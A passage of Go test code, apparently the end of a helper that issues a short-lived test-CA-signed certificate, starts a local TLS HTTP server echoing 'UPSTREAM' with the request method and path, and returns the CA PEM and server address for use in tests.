	leafTmpl := &x509.Certificate{SerialNumber: big.NewInt(2), Subject: pkix.Name{CommonName: ip},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour), IPAddresses: []net.IP{net.ParseIP(ip)},
		ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}, KeyUsage: x509.KeyUsageDigitalSignature}
	leafDER, err := x509.CreateCertificate(rand.Reader, leafTmpl, caCert, &leafKey.PublicKey, caKey)
	must(t, err)
	ln, err := net.Listen("tcp", ip+":0")
	must(t, err)
	srv := &http.Server{Handler: http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(rw, "UPSTREAM %s %s", r.Method, r.URL.Path)
	}), TLSConfig: &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{leafDER}, PrivateKey: leafKey}}}}
	go srv.ServeTLS(ln, "", "")
	t.Cleanup(func() { srv.Close() })
	return string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: caDER})), ln.Addr().String()
}
